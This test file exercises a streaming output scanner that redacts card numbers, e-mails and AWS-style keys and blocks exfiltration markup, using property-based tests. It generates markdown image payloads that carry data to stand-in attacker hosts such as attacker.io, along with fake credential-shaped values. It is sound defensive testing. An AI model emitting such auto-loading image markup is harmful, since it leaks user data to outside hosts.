// The streaming hold-back scanner: the text released does not depend on how the stream is cut into deltas and is
// what the non-streaming path answers, a secret or exfiltration markup split across deltas is never released, and
// a long stream costs linear time.
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { z } from 'zod';
import type { Finding } from '../core/finding.js';
import { defineDetector, type DetectFn, type Detector } from '../detectors/contract.js';
import { createVault, redact, restore, type RedactionVault } from '../detectors/redact.js';
import { configureDetector, type ConfiguredDetector } from '../detectors/runner.js';
import { compileConfig } from '../policy/compile.js';
import { DEFAULT_POLICY } from '../policy/default-policy.js';
import { validateConfig } from '../policy/load.js';
import type { Action, CompiledPolicy, DetectorRule, StreamingMode, StreamingPolicy } from '../policy/types.js';
import { HoldbackScanner } from './holdback.js';
import { runStage } from './run-stage.js';

function policy(mode: StreamingMode, windowChars = 64): CompiledPolicy {
  // Generous budgets: this test is about what is released, not about detector speed on a busy machine.
  const output = (DEFAULT_POLICY.output ?? []).filter((r) => r.detector !== 'toxicity').map((r) => ({ ...r, budgetMs: 5000 }));
  const config = validateConfig(
    { version: 1, upstreams: [{ name: 'u', url: 'http://127.0.0.1:9/v1' }], policies: { default: { ...DEFAULT_POLICY, output, streaming: { mode, windowChars } } } },
    'holdback.test',
  );
  return compileConfig(config).defaultPolicy;
}

async function stream(p: CompiledPolicy, text: string, size: number): Promise<{ released: string; blocked: boolean }> {
  const scanner = new HoldbackScanner(p.stages.output, p.streaming, undefined, createVault());
  let released = '';
  for (let i = 0; i < text.length; i += size) {
    const out = await scanner.push(text.slice(i, i + size));
    released += out.release;
    if (out.blocked) return { released, blocked: true };
  }
  const end = await scanner.finish();
  return { released: released + end.release, blocked: end.blocked !== undefined };
}

const ANSWER =
  'Sure, here are the details you asked for. The card on file is 4111 1111 1111 1111 and the contact is ' +
  'jane.doe@acme-mail.net; the deploy key id is AKIA' + 'Q3VZK7M2X5JW4RTN. Let me know if anything else is needed. '.repeat(3);

describe('HoldbackScanner', () => {
  it.each(['holdback', 'buffer'] as const)('releases the same redacted text however the %s stream is cut', async (mode) => {
    const p = policy(mode);
    const whole = await stream(p, ANSWER, ANSWER.length);
    expect(whole.blocked).toBe(false);
    expect(whole.released).not.toContain('4111 1111 1111 1111');
    expect(whole.released).not.toContain('jane.doe@acme-mail.net');
    expect(whole.released).not.toContain('AKIA' + 'Q3VZK7M2X5JW4RTN');
    for (const size of [1, 3, 17, 64, 65, 200]) {
      expect((await stream(p, ANSWER, size)).released).toBe(whole.released);
    }
  });

  it('observe mode releases every delta at once, unredacted', async () => {
    const p = policy('observe');
    expect((await stream(p, ANSWER, 10)).released).toBe(ANSWER);
  });

  it('a stream of tens of megabytes costs linear time (regression: every delta used to copy the whole text)', async () => {
    // A rule whose detector does nothing: what is measured is the scanner's own bookkeeping. Before the fix, each
    // push sliced the whole growing text, so 32 MB in 4 KB deltas copied ~130 GB and ran into the test timeout.
    const rule = {
      detector: 'noop',
      options: {},
      action: 'block',
      budgetMs: 60_000,
      failMode: 'open',
      configured: { detector: { id: 'noop', stages: ['output'] }, detect: () => [] },
    } as unknown as DetectorRule;
    const scanner = new HoldbackScanner([rule], { mode: 'holdback', windowChars: 256 }, undefined, createVault());
    const delta = 'word '.repeat(800);
    let released = 0;
    let pushed = 0;
    while (pushed < 32 * 1024 * 1024) {
      released += (await scanner.push(delta)).release.length;
      pushed += delta.length;
    }
    // All but the window is out before the end; finish() releases the rest.
    expect(released).toBe(pushed - 256);
    released += (await scanner.finish()).release.length;
    expect(released).toBe(pushed);
    expect(scanner.text.length).toBe(pushed);
  }, 15_000);
});

// --- Properties over random texts and random cuts: what the stream releases is what the non-streaming path answers.

function rule(configured: ConfiguredDetector, action: Action): DetectorRule {
  // Generous budgets: a slow CI machine must not turn an overrun into a different decision.
  return { detector: configured.detector.id, options: {}, action, budgetMs: 60_000, failMode: 'open', configured };
}

/** A test detector that runs `find` at every stage. */
function fake(id: string, find: (text: string) => Finding[]): ConfiguredDetector {
  const detect: DetectFn = (input) => find(input.text);
  const detector = defineDetector({ id, description: 'test detector', stages: ['input', 'output', 'tool_call', 'tool_result'], tags: {}, options: z.object({}), create: () => detect });
  return { detector: detector as Detector<unknown>, detect };
}

function spansOf(re: RegExp, text: string, category = 'thing'): Finding[] {
  return [...text.matchAll(re)].map((m) => ({ detector: 'fake', category, score: 0.9, severity: 'high' as const, span: { start: m.index, end: m.index + m[0].length }, tags: {} }));
}

const PII = configureDetector('pii', {});
const SECRETS = configureDetector('secrets', {});
const EXFIL = configureDetector('exfiltration', {});
const REDACT = [rule(SECRETS, 'redact'), rule(PII, 'redact')];
const GUARD = [...REDACT, rule(EXFIL, 'block')];

/** The non-streaming answer: one runStage over the whole text, its redactions applied. */
async function nonStreaming(rules: readonly DetectorRule[], text: string): Promise<{ text: string; decision: string }> {
  const r = await runStage(rules, text, 'output');
  const spans = r.findings.filter((f) => f.action === 'redact' && f.span);
  return { text: spans.length > 0 ? redact(text, spans, { vault: createVault() }).text : text, decision: r.decision };
}

interface Streamed {
  released: string;
  blocked: boolean;
  /** What each push released, in order (finish excluded). */
  steps: string[];
  vault: RedactionVault;
}

async function streamDeltas(rules: readonly DetectorRule[], streaming: StreamingPolicy, deltas: readonly string[]): Promise<Streamed> {
  const vault = createVault();
  const scanner = new HoldbackScanner(rules, streaming, undefined, vault);
  const steps: string[] = [];
  let released = '';
  for (const d of deltas) {
    const out = await scanner.push(d);
    steps.push(out.release);
    released += out.release;
    if (out.blocked) return { released, blocked: true, steps, vault };
  }
  const end = await scanner.finish();
  return { released: released + end.release, blocked: end.blocked !== undefined, steps, vault };
}

/** Splits `text` at the given points (taken modulo its length); never yields an empty delta. */
function cut(text: string, points: readonly number[]): string[] {
  const at = [...new Set(points.map((p) => p % (text.length + 1)))].sort((a, b) => a - b);
  const out: string[] = [];
  let from = 0;
  for (const p of at) {
    if (p > from) out.push(text.slice(from, p));
    from = Math.max(from, p);
  }
  if (from < text.length) out.push(text.slice(from));
  return out;
}

function luhn(digits: string): string {
  let sum = 0;
  for (let i = 0; i < digits.length; i++) {
    let d = Number(digits[digits.length - 1 - i]);
    if (i % 2 === 0) d = d * 2 > 9 ? d * 2 - 9 : d * 2;
    sum += d;
  }
  return digits + String((10 - (sum % 10)) % 10);
}

const digits = (n: number): fc.Arbitrary<string> => fc.array(fc.integer({ min: 0, max: 9 }), { minLength: n, maxLength: n }).map((d) => d.join(''));
/** Visa, Mastercard and Amex-shaped numbers with a valid check digit, plain or in groups of four. */
const cardArb = fc.tuple(fc.constantFrom('4', '51', '55', '37'), digits(14), fc.boolean()).map(([prefix, rest, grouped]) => {
  const n = luhn((prefix + rest).slice(0, 15));
  return grouped ? n.replace(/(\d{4})(?=\d)/g, '$1 ') : n;
});
const emailArb = fc
  .tuple(fc.stringMatching(/^[a-z]{2,8}$/), fc.stringMatching(/^[a-z]{3,8}$/), fc.constantFrom('com', 'io', 'de', 'net'))
  .map(([user, domain, tld]) => `${user}.${domain}@${domain}-mail.${tld}`);
const awsKeyArb = fc.stringMatching(/^[A-Z2-7]{16}$/).map((s) => `AKIA${s}`);
// Prose, numbers, punctuation, new lines, characters outside the BMP and a harmless link.
const fillerArb = fc.constantFrom('the', 'report', 'is', 'ready', 'and', 'value', 'ok.', '\n', 'é', '😀', 'x', ',', 'data', '42', 'see [docs](https://docs.python.org/3/)');
const proseArb = fc
  .array(fc.oneof({ weight: 8, arbitrary: fillerArb }, { weight: 1, arbitrary: cardArb }, { weight: 1, arbitrary: emailArb }, { weight: 1, arbitrary: awsKeyArb }), { maxLength: 150 })
  .map((parts) => parts.join(' '));
// Harder: entities glued to each other and to numbers, names, phone numbers, IBANs, URLs and cue words, so that one
// reading of the text overlaps another ("0134-the-AKIA...@mail.de" is an e-mail address that swallows a phone number).
const gluedArb = fc
  .array(
    fc.tuple(
      fc.oneof(
        { weight: 6, arbitrary: fillerArb },
        {
          weight: 6,
          arbitrary: fc.constantFrom('John Smith', '+1 415 555 0134', 'IBAN', 'DE89 3704 0044 0532 0130 00', 'ssn', '123-45-6789', 'password=', 'api_key:', 'Baker Street', '221B', '2024-01-02', 'born', '4111', '192.168.1.20', 'sk-', 'ghp_', 'https://example.org/a?b=c', 'Berlin'),
        },
        { weight: 2, arbitrary: cardArb },
        { weight: 2, arbitrary: emailArb },
        { weight: 2, arbitrary: awsKeyArb },
      ),
      fc.constantFrom(' ', ' ', ' ', '', '\n', ', ', ': ', '-', '.'),
    ),
    { maxLength: 150 },
  )
  .map((parts) => parts.map(([part, sep]) => part + sep).join(''));
/** An auto-loading image that carries data to a host nobody allowed: the exfiltration detector blocks it in output. */
const markupArb = fc
  .tuple(fc.constantFrom('attacker.io', 'collect.evil-cdn.net', 'x.ngrok.app'), fc.stringMatching(/^[A-Za-z0-9]{8,24}$/))
  .map(([host, data]) => `![pixel](https://${host}/p.png?d=${data})`);
const cutsArb = fc.array(fc.nat(), { maxLength: 80 });

/**
 * Which characters of `text` the released output replaced by a placeholder, found by walking both texts: outside a
 * placeholder they match one for one, and a placeholder stands for its vault value.
 */
function redactedMask(released: string, vault: RedactionVault, text: string): boolean[] {
  const mask = new Array<boolean>(text.length).fill(false);
  const placeholder = /\[[A-Z][A-Z0-9_]{0,40}_[0-9a-f]{1,64}\]/y;
  let i = 0;
  let j = 0;
  while (j < released.length) {
    placeholder.lastIndex = j;
    const m = released[j] === '[' ? placeholder.exec(released) : null;
    const value = m ? vault.entries[m[0]] : undefined;
    if (m && value !== undefined && value !== m[0]) {
      expect(text.startsWith(value, i)).toBe(true);
      mask.fill(true, i, i + value.length);
      i += value.length;
      j += m[0].length;
    } else {
      expect(released[j]).toBe(text[i]);
      i++;
      j++;
    }
  }
  return mask;
}

const LONE_SURROGATE = /[\uD800-\uDBFF](?![\uDC00-\uDFFF])|(?<![\uD800-\uDBFF])[\uDC00-\uDFFF]/;

describe('HoldbackScanner against the non-streaming path (fast-check)', () => {
  it('(a) releases exactly the non-streaming redacted text, however the stream is cut', async () => {
    await fc.assert(
      fc.asyncProperty(proseArb, cutsArb, fc.constantFrom(64, 128, 256), async (text, points, windowChars) => {
        const expected = await nonStreaming(GUARD, text);
        const got = await streamDeltas(GUARD, { mode: 'holdback', windowChars }, cut(text, points));
        expect(got.blocked).toBe(expected.decision === 'block');
        expect(got.released).toBe(expected.text);
        // Every placeholder comes from the scanner's vault: putting the values back gives the model's text.
        expect(restore(got.released, got.vault)).toBe(text);
        for (const step of got.steps) expect(step).not.toMatch(LONE_SURROGATE);
      }),
      { numRuns: 400 },
    );
  });

  it('(a) on glued, overlapping entities: never redacts less and never decides less than the non-streaming path', async () => {
    // Where readings overlap, a window scan may see one the whole text resolves differently (a phone number that
    // the whole text reads as part of a longer e-mail address). The stream then redacts the union: more, never less.
    await fc.assert(
      fc.asyncProperty(gluedArb, cutsArb, fc.constantFrom(64, 128, 256), async (text, points, windowChars) => {
        const whole = await runStage(GUARD, text, 'output');
        const got = await streamDeltas(GUARD, { mode: 'holdback', windowChars }, cut(text, points));
        if (whole.decision === 'block') {
          expect(got.blocked).toBe(true);
          return;
        }
        if (got.blocked) return; // stricter than the whole text: allowed by this property, reported by (a)
        const mask = redactedMask(got.released, got.vault, text);
        for (const f of whole.findings) {
          if (f.action !== 'redact' || !f.span) continue;
          expect(mask.slice(f.span.start, f.span.end).every(Boolean), `${f.category} at ${f.span.start}`).toBe(true);
        }
      }),
      { numRuns: 400 },
    );
  });

  it('(b) blocks a stream that holds exfiltration markup and never releases any of it', async () => {
    await fc.assert(
      fc.asyncProperty(proseArb, proseArb, markupArb, cutsArb, fc.constantFrom(96, 128, 256), async (before, after, markup, points, windowChars) => {
        const text = `${before} ${markup} ${after}`;
        expect((await nonStreaming(GUARD, text)).decision).toBe('block');
        const got = await streamDeltas(GUARD, { mode: 'holdback', windowChars }, cut(text, points));
        expect(got.blocked).toBe(true);
        expect(got.released).not.toContain('![');
        expect(got.released).not.toContain('p.png');
        // What did get out is a prefix of the text before the markup (redacted like the non-streaming answer).
        expect(text.startsWith(restore(got.released, got.vault))).toBe(true);
        expect(restore(got.released, got.vault).length).toBeLessThanOrEqual(before.length + 1);
      }),
      { numRuns: 300 },
    );
  });

  it('(c) buffer mode releases nothing before the end; observe mode releases every delta at once', async () => {
    await fc.assert(
      fc.asyncProperty(proseArb, cutsArb, async (text, points) => {
        const deltas = cut(text, points);
        const buffered = await streamDeltas(GUARD, { mode: 'buffer', windowChars: 16 }, deltas);
        expect(buffered.steps.every((s) => s === '')).toBe(true);
        expect(buffered.released).toBe((await nonStreaming(GUARD, text)).text);
        const observed = await streamDeltas(GUARD, { mode: 'observe', windowChars: 16 }, deltas);
        expect(observed.steps).toEqual(deltas);
        expect(observed.released).toBe(text);
      }),
      { numRuns: 200 },
    );
  });

  it('(d) holds back at least windowChars characters until the end', async () => {
    await fc.assert(
      fc.asyncProperty(proseArb, cutsArb, fc.integer({ min: 1, max: 300 }), async (text, points, windowChars) => {
        const vault = createVault();
        const scanner = new HoldbackScanner(REDACT, { mode: 'holdback', windowChars }, undefined, vault);
        let pushed = '';
        let released = '';
        for (const d of cut(text, points)) {
          pushed += d;
          released += (await scanner.push(d)).release;
          const raw = restore(released, vault);
          expect(pushed.startsWith(raw)).toBe(true);
          expect(raw.length).toBeLessThanOrEqual(Math.max(0, pushed.length - windowChars));
        }
        released += (await scanner.finish()).release;
        expect(restore(released, vault)).toBe(text);
      }),
      { numRuns: 200 },
    );
  });

  it('regression (fast-check seed -1785283912): a scan starting inside a number does not redact a number that is not there', async () => {
    // The window scan began at "001 0000 1000 003", which reads as a phone number; the whole text has the phone
    // number "0000 1000 003" after "4001". The scan now starts at the beginning of the word.
    const text = '4001 0000 1000 003 aaaaa.aaa@aaamail.com 3700000000000007 value is 😀';
    const expected = await nonStreaming(REDACT, text);
    expect(expected.text).toBe('4001 [PHONE_1] [EMAIL_1] 3700000000000007 value is 😀');
    for (let at = 1; at < text.length; at++) {
      expect((await streamDeltas(REDACT, { mode: 'holdback', windowChars: 32 }, [text.slice(0, at), text.slice(at)])).released).toBe(expected.text);
    }
  });
});

describe('HoldbackScanner edge cases', () => {
  it('never cuts the release through one of two overlapping redactions (regression: a single pass moved the cut into the other)', async () => {
    // Two detectors: one redacts "xxxxxxxxxxyyyyy", the other "yyyyyyyyyyyyyyyyyyyy". Moving the cut back to the start
    // of the y-run used to land inside the x-span, whose first half was then released in clear.
    const rules = [rule(fake('xs', (t) => spansOf(/x+y{5}/g, t, 'x')), 'redact'), rule(fake('ys', (t) => spansOf(/y+/g, t, 'y')), 'redact')];
    const text = `${'hello '.repeat(6)}${'x'.repeat(10)}${'y'.repeat(20)} and the rest of the answer ${'z '.repeat(20)}`;
    for (let size = 1; size <= 12; size++) {
      for (const windowChars of [16, 24, 32, 48]) {
        const deltas = cut(text, Array.from({ length: Math.ceil(text.length / size) }, (_, i) => i * size));
        const got = await streamDeltas(rules, { mode: 'holdback', windowChars }, deltas);
        expect(got.released).not.toMatch(/[xy]/);
        expect(got.released).toBe((await nonStreaming(rules, text)).text);
      }
    }
  });

  it('never releases half of a surrogate pair', async () => {
    const rules = [rule(fake('none', () => []), 'redact')];
    const text = '😀'.repeat(200);
    for (const windowChars of [1, 2, 3, 7]) {
      const got = await streamDeltas(rules, { mode: 'holdback', windowChars }, cut(text, Array.from({ length: 100 }, (_, i) => i * 4 + 2)));
      expect(got.released).toBe(text);
      for (const step of got.steps) expect(step).not.toMatch(LONE_SURROGATE);
    }
  });

  it('reports a block with spans in offsets of the whole stream', async () => {
    const rules = [rule(fake('bad', (t) => spansOf(/FORBIDDEN/g, t, 'bad')), 'block')];
    const text = `${'fine text '.repeat(30)}FORBIDDEN ${'more '.repeat(40)}`;
    const scanner = new HoldbackScanner(rules, { mode: 'holdback', windowChars: 32 }, undefined, createVault());
    let blocked;
    for (const d of cut(text, Array.from({ length: 60 }, (_, i) => i * 10))) {
      blocked = (await scanner.push(d)).blocked;
      if (blocked) break;
    }
    expect(blocked?.decision).toBe('block');
    expect(blocked?.blockedBy).toMatchObject({ detector: 'fake', category: 'bad' });
    const span = blocked?.findings.find((f) => f.category === 'bad')?.span;
    expect(span && text.slice(span.start, span.end)).toBe('FORBIDDEN');
    // Once blocked, it stays blocked and releases nothing.
    expect(await scanner.push('more')).toMatchObject({ release: '', blocked: { decision: 'block' } });
    expect(await scanner.finish()).toMatchObject({ release: '', blocked: { decision: 'block' } });
    expect(scanner.lastResult?.decision).toBe('block');
  });

  it('redacts the rest of a span that only the whole-text check finds, when its start is already out', async () => {
    // A detector that needs the start of the text (a cue far before the value): window scans never see it.
    const rules = [rule(fake('cue', (t) => (t.startsWith('BEGIN') ? spansOf(/q+/g, t, 'q') : [])), 'redact')];
    const text = `BEGIN${' lorem'.repeat(20)} ${'q'.repeat(40)}.`;
    const scanner = new HoldbackScanner(rules, { mode: 'holdback', windowChars: 16 }, undefined, createVault());
    let released = '';
    for (const ch of text) released += (await scanner.push(ch)).release;
    const end = await scanner.finish();
    expect(end.result.decision).toBe('redact');
    // The first part of the run went out before the end (the window scans could not know); the rest did not.
    expect(released).toMatch(/q+$/);
    expect(end.release).not.toContain('q');
    expect(end.release).toMatch(/^\[Q_1\]\.$/);
  });

  it('with no rules, releases every delta at once; an empty stream finishes clean', async () => {
    const scanner = new HoldbackScanner([], { mode: 'holdback', windowChars: 256 }, undefined, createVault());
    expect((await scanner.push('abc')).release).toBe('abc');
    expect((await scanner.push('def')).release).toBe('def');
    expect(await scanner.finish()).toMatchObject({ release: '', result: { decision: 'allow' } });
    expect(scanner.text).toBe('abcdef');
    const empty = new HoldbackScanner(REDACT, { mode: 'holdback', windowChars: 256 }, undefined, createVault());
    expect(await empty.finish()).toMatchObject({ release: '', result: { decision: 'allow', findings: [] } });
    expect(empty.lastResult?.decision).toBe('allow');
  });

  it('the merged result has each whole-text finding once and keeps redactions only the window scans made', async () => {
    const text = `contact jane.doe@acme-mail.net ${'and more words '.repeat(30)}`;
    const scanner = new HoldbackScanner(REDACT, { mode: 'holdback', windowChars: 64 }, undefined, createVault());
    for (const d of cut(text, Array.from({ length: 50 }, (_, i) => i * 9))) await scanner.push(d);
    const { result } = await scanner.finish();
    expect(result.decision).toBe('redact');
    expect(result.findings.filter((f) => f.category === 'email')).toHaveLength(1);
  });

  it('hostile input: 1 MB in one delta, 200 KB of one repeated character in 1 KB deltas, lone surrogates', async () => {
    const big = 'a'.repeat(1024 * 1024);
    const one = await streamDeltas(REDACT, { mode: 'holdback', windowChars: 256 }, [big]);
    expect(one.released).toBe(big);
    const digitsRun = '1'.repeat(200 * 1024);
    const many = await streamDeltas(GUARD, { mode: 'holdback', windowChars: 256 }, cut(digitsRun, Array.from({ length: 200 }, (_, i) => i * 1024)));
    expect(many.released).toBe((await nonStreaming(GUARD, digitsRun)).text);
    const lone = 'a\uD800b\uDC00c'.repeat(100);
    expect((await streamDeltas(REDACT, { mode: 'holdback', windowChars: 8 }, cut(lone, [3, 50, 51, 300]))).released).toBe(lone);
  });
});

describe('regression seeds', () => {
  it('a lower-case window and the whole answer redact a number run alike (seed -786262355)', async () => {
    const text = 'the 42 the 3700 0000 0000 0007 report aa.aaaa@aaaa-mail.de the x AKIA222A22A22A2A222A 4000000000000002';
    const expected = await nonStreaming(GUARD, text);
    const got = await streamDeltas(GUARD, { mode: 'holdback', windowChars: 64 }, cut(text, [590237753]));
    expect(got.released).toBe(expected.text);
  });
});
